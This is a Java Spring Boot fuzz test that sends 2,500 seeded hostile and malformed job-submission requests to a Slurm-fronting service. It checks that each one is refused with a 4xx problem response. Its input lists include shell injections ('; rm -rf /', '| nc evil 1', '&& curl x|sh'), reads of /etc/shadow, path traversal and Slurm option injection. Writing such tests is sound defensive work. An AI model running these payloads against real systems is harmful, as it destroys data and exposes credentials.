package io.longrun.adapter.in.web;

import static org.assertj.core.api.Assertions.assertThat;
import static org.springframework.test.web.servlet.request.MockMvcRequestBuilders.post;

import io.longrun.application.port.out.ChainRepository;
import io.longrun.support.FakeSlurm;
import io.longrun.support.FakeSlurmConfiguration;
import io.longrun.support.TestTokens;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.boot.webmvc.test.autoconfigure.AutoConfigureMockMvc;
import org.springframework.context.annotation.Import;
import org.springframework.mock.web.MockHttpServletResponse;
import org.springframework.test.web.servlet.MockMvc;
import tools.jackson.databind.JsonNode;
import tools.jackson.databind.json.JsonMapper;

/**
 * A seeded run of generated hostile and malformed requests: broken JSON, wrong types, huge bodies, odd Unicode,
 * option injection in args and directives, shell syntax, path tricks, NUL bytes. Each request carries at least
 * one mistake Longrun must refuse; none may store a chain, reach Slurm, or get anything but a 4xx problem.
 */
@SpringBootTest(properties = {
        "spring.datasource.url=jdbc:h2:mem:hostile-test;DB_CLOSE_DELAY=-1",
        "longrun.poll.enabled=false",
        "longrun.slurm.rest.jwt-key-file=/nonexistent",
        "longrun.security.slurm.key-file=src/test/resources/security/slurm-test.key"})
@Import(FakeSlurmConfiguration.class)
@AutoConfigureMockMvc
class HostileInputTest {
    static final int REQUESTS = 2500;
    static final long SEED = 20261126L;
    static final JsonMapper JSON = JsonMapper.builder().build();

    static final List<String> SHELL = List.of("; rm -rf /", "$(reboot)", "`id`", "| nc evil 1", "&& curl x|sh",
            "\n#SBATCH --uid=0", "${IFS}cat${IFS}/etc/shadow", "' OR 1=1 --", "%n%n%n%s", "\u0000", "\r\n");
    static final List<String> ODD = List.of("\u202e", "\ud83d\ude00", "\uffff", "\u0085", "\u2028", "\ufeff",
            "e\u0301", "\u00a0", "\u0007", "\u001b[31m");
    static final List<String> PATHS = List.of("../../etc/passwd", "/home/alice/../../etc", "..", "a/../../b",
            "/tmp/../root/.ssh/authorized_keys");
    /** Refused whatever else the request holds. */
    static final List<String> BAD_ARGS = List.of("--wrap=rm -rf /", "--wrap", "; rm -rf /", "$(reboot)",
            "--uid=0", "--frobnicate", "--output=../../etc/passwd", "--chdir=../..", "--error=/x/../y",
            "--time=$(id)", "--job-name=a\u0000b", "--job-name=a\nb", "--export=ALL;id", "-J\u0000",
            "--partition=debug\u0000", "--input=../../etc/shadow", "--time=1:xx", "--begin=`date`");
    static final List<String> BAD_DIRECTIVES = List.of("#SBATCH --wrap=id", "#SBATCH --output=../../etc/passwd",
            "#SBATCH --chdir=/home/alice/../../root", "#SBATCH --uid=0", "#SBATCH --frobnicate",
            "#SBATCH --time=$(id)", "#SBATCH --error=a/../../../etc/x", "#SBATCH --input=../../x");

    @Autowired
    MockMvc mvc;
    @Autowired
    ChainRepository repository;
    @Autowired
    FakeSlurm slurm;

    final Random random = new Random(SEED);

    <T> T pick(List<T> list) {
        return list.get(random.nextInt(list.size()));
    }

    String noise() {
        StringBuilder text = new StringBuilder();
        int parts = 1 + random.nextInt(3);
        for (int i = 0; i < parts; i++) {
            text.append(pick(random.nextBoolean() ? SHELL : ODD));
        }
        return text.toString();
    }

    /** A valid-looking request, then one certain mistake, then random hostile noise. */
    byte[] hostileBody(int kind) {
        Map<String, Object> request = new LinkedHashMap<>();
        request.put("script", "#!/bin/bash\n#SBATCH --time=1\necho " + noise() + "\n");
        if (random.nextBoolean()) {
            request.put("args", new ArrayList<>(List.of("--job-name=" + noise().replaceAll("\\p{Cntrl}", ""))));
        }
        switch (kind) {
            case 0 -> request.put("args", List.of(pick(BAD_ARGS)));
            case 1 -> request.put("script", "#!/bin/bash\n" + pick(BAD_DIRECTIVES) + "\necho " + noise() + "\n");
            case 2 -> request.put("workingDirectory", random.nextBoolean() ? pick(PATHS) : "/home/alice/" + pick(PATHS)
                    + (random.nextBoolean() ? "\u0000" : ""));
            case 3 -> request.put("environment", Map.of(pick(List.of("A B", "1X", "SLURM_LONGRUN_CHAIN_ID", "X=Y",
                    "$(id)", "\u0000", "", "LD_PRELOAD;", "A\u00e9")), noise()));
            case 4 -> request.put("user", pick(List.of("root; id", "../alice", "alice\u0000", "ALICE", "$(whoami)",
                    "a".repeat(40), "bob\n", "\u202ealice")));
            case 5 -> request.put("script", pick(List.of("echo " + noise(), "", " #!/bin/bash", "\u0000#!/bin/bash",
                    "#!/bin/bash\n\u0000" + noise())));
            case 6 -> request.put("maxRestarts", pick(List.of(-1, "ten", 1e12, List.of(1), Map.of("a", 1), true)));
            case 7 -> request.put("args", pick(List.of("--time=1", 42, Map.of("x", "y"))));
            case 8 -> request.put("policy", Map.of("resubmitOn", List.of(pick(List.of("COMPLETED", "$(id)", "x",
                    "\u0000")))));
            case 9 -> request.put("environment", Map.of("BIG", "x".repeat(70 * 1024)));
            case 10 -> request.remove("script");
            default -> request.put("user", "bob"); // alice may not submit as bob
        }
        byte[] json = JSON.writeValueAsBytes(request);
        return json;
    }

    byte[] brokenBody() {
        String valid = "{\"script\":\"#!/bin/bash\\n\",\"args\":[\"--time=1\"]}";
        return switch (random.nextInt(8)) {
            case 0 -> valid.substring(0, random.nextInt(valid.length() - 1)).getBytes(StandardCharsets.UTF_8);
            case 1 -> ("[" + valid + "]").getBytes(StandardCharsets.UTF_8);
            case 2 -> ("{\"script\":\"#!/bin/bash\\n" + noise() + "\"").getBytes(StandardCharsets.UTF_8);
            case 3 -> {
                byte[] garbage = new byte[1 + random.nextInt(512)];
                random.nextBytes(garbage);
                yield garbage;
            }
            case 4 -> "{\"script\":\"\\ud800\",\"args\":[\"\\uZZZZ\"]}".getBytes(StandardCharsets.UTF_8);
            case 5 -> "null".getBytes(StandardCharsets.UTF_8);
            case 6 -> "{\"script\":\"#!/bin/bash\\n\",\"args\":[".repeat(1 + random.nextInt(200))
                    .getBytes(StandardCharsets.UTF_8);
            default -> "{\"a\":".repeat(2000).getBytes(StandardCharsets.UTF_8);
        };
    }

    @Test
    void hostileRequestsGetProblemsAndStoreNothing() throws Exception {
        String token = TestTokens.slurm("alice");
        int before = repository.list(null, null, 500).size();
        Map<Integer, Integer> statuses = new LinkedHashMap<>();
        List<String> failures = new ArrayList<>();
        for (int i = 0; i < REQUESTS; i++) {
            int shape = random.nextInt(20);
            byte[] body = shape < 12 ? hostileBody(shape) : shape < 18 ? brokenBody()
                    : shape == 18 ? new byte[5 * 1024 * 1024] : hostileBody(random.nextInt(12));
            String contentType = shape == 19 ? pick(List.of("text/plain", "application/xml", "application/x-www-form-urlencoded"))
                    : "application/json";
            var request = post("/chains").contentType(contentType).content(body)
                    .header("Authorization", "Bearer " + token);
            if (random.nextInt(4) == 0) {
                request.header("Idempotency-Key", "k-" + random.nextInt(50));
            }
            MockHttpServletResponse response = mvc.perform(request).andReturn().getResponse();
            statuses.merge(response.getStatus(), 1, Integer::sum);
            String problemType = null;
            try {
                JsonNode problem = JSON.readTree(response.getContentAsByteArray());
                problemType = problem.path("type").asString(null);
            } catch (RuntimeException notJson) {
                // recorded below
            }
            if (response.getStatus() < 400 || response.getStatus() >= 500
                    || response.getContentType() == null
                    || !response.getContentType().startsWith("application/problem+json")
                    || problemType == null || !problemType.startsWith("urn:longrun:problem:")) {
                failures.add("#" + i + " shape " + shape + ": " + response.getStatus() + " " + response.getContentType()
                        + " " + new String(body, 0, Math.min(body.length, 200), StandardCharsets.UTF_8));
            }
        }
        System.out.println("Hostile requests: " + REQUESTS + ", statuses " + statuses);
        assertThat(failures).isEmpty();
        assertThat(repository.list(null, null, 500)).hasSize(before);
        assertThat(slurm.submissions).isEmpty();
    }
}
